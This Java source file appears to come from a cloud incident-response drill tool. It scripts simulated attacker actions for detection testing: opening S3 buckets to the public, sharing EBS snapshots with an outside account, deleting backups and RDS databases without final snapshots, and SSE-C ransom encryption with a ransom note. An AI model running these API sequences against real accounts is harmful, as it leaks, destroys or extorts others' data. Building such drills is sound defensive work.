package io.cloudir.drill;

import static io.cloudir.drill.IdentityDrills.STEP;
import static io.cloudir.drill.IdentityDrills.insist;
import static io.cloudir.drill.IdentityDrills.onceRefused;

import java.time.Duration;
import java.util.List;
import java.util.Map;

/** Attacks on data: taken, shared, destroyed, made unreadable. */
final class DataDrills {
    private static final String OUTSIDE = "111122223333";
    private static final List<String> VOLUMES = List.of("vol-0a1b2c3d4e5f60001", "vol-0a1b2c3d4e5f60002");
    private static final String OFFICE = "198.51.100.24";
    private static final String ELSEWHERE = "203.0.113.9";

    private DataDrills() {}

    static void openBucket(Attacker thief) {
        String session = thief.call("sts:GetSessionToken").newKeyId();
        thief.oneByOne(STEP, now -> open(now, "example-reports"), now -> open(now, "example-backups"));
        onceRefused(thief, refused -> open(refused.with(session), "example-app-uploads"));
        thief.after(Duration.ofDays(4), back -> open(back.from(ELSEWHERE), "example-reports"));
    }

    private static void open(Attacker attacker, String bucket) {
        Map<String, Object> statement = Map.of(
                "Effect",
                "Allow",
                "Principal",
                "*",
                "Action",
                "s3:GetObject",
                "Resource",
                "arn:aws:s3:::" + bucket + "/*");
        attacker.call(
                "s3:PutBucketPolicy",
                "bucketName",
                bucket,
                "bucketPolicy",
                Map.of("Version", "2012-10-17", "Statement", List.of(statement)));
    }

    static void sharedSnapshots(Attacker thief) {
        String session = thief.call("sts:GetSessionToken").newKeyId();
        Move share = now -> VOLUMES.forEach(volume -> share(now, volume));
        thief.oneByOne(STEP, share, share);
        onceRefused(thief, refused -> share(refused.with(session), VOLUMES.get(0)));
        thief.after(Duration.ofDays(2), back -> share(back.from(ELSEWHERE), VOLUMES.get(1)));
    }

    private static void share(Attacker attacker, String volume) {
        String record = attacker.call("ec2:CreateSnapshot", "volumeId", volume).record();
        int at = record.indexOf("snap-");
        String snapshot = at < 0 ? "snap-0a1b2c3d4e5f60001" : record.substring(at, record.indexOf('"', at));
        attacker.call(
                "ec2:ModifySnapshotAttribute",
                "snapshotId",
                snapshot,
                "createVolumePermission",
                Map.of("add", Map.of("items", List.of(Map.of("userId", OUTSIDE)))),
                "attributeType",
                "CREATE_VOLUME_PERMISSION");
    }

    static void backupsDeleted(Attacker vandal) {
        String session = vandal.call("sts:GetSessionToken").newKeyId();
        vandal.oneByOne(
                STEP,
                now -> now.call(
                        "backup:DeleteRecoveryPoint",
                        "backupVaultName",
                        "nightly",
                        "recoveryPointArn",
                        "arn:aws:backup:eu-west-1:123456789012:recovery-point:one"),
                now -> delete(now, "reports"),
                now -> delete(now, "orders"));
        onceRefused(vandal, refused -> delete(refused.with(session), "invoices"));
        vandal.after(Duration.ofDays(1), back -> insist(back.from(ELSEWHERE), now -> delete(now, "orders")));
    }

    private static void delete(Attacker attacker, String database) {
        attacker.call("rds:DeleteDBInstance", "dBInstanceIdentifier", database, "skipFinalSnapshot", true);
    }

    static void ransom(Attacker extortionist) {
        String session = extortionist.call("sts:GetSessionToken").newKeyId();
        for (int number = 0; number < 8; number++) {
            String key = "customers/part-" + number + ".parquet";
            extortionist.after(STEP.plusSeconds(number), now -> encrypt(now, key));
        }
        extortionist.after(STEP.multipliedBy(2), DataDrills::leaveNote);
        extortionist.after(
                STEP.multipliedBy(3),
                now -> now.call(
                        "ec2:ModifyInstanceAttribute",
                        "instanceId",
                        "i-0a1b2c3d4e5f60001",
                        "userData",
                        "<sensitiveDataRemoved>"));
        onceRefused(extortionist, refused -> leaveNote(refused.with(session)));
        extortionist.after(Duration.ofDays(5), back -> leaveNote(back.from(ELSEWHERE)));
    }

    private static void encrypt(Attacker attacker, String key) {
        attacker.call(
                "s3:CopyObject",
                "bucketName",
                "example-backups",
                "key",
                key,
                "x-amz-server-side-encryption-customer-algorithm",
                "AES256");
    }

    private static void leaveNote(Attacker attacker) {
        attacker.call("s3:PutObject", "bucketName", "example-backups", "key", "how_to_decrypt.txt");
    }

    static void manyBucketsRead(Attacker insider) {
        Attacker office = insider.from(OFFICE);
        for (int number = 0; number < 12; number++) {
            String bucket = "example-team-" + number;
            office.after(
                    STEP.plusSeconds(20L * number),
                    now -> now.call("s3:GetObject", "bucketName", bucket, "key", "all.csv"));
        }
        office.after(
                Duration.ofDays(6),
                back -> insist(
                        back, now -> now.call("s3:GetObject", "bucketName", "example-team-0", "key", "all.csv")));
    }
}
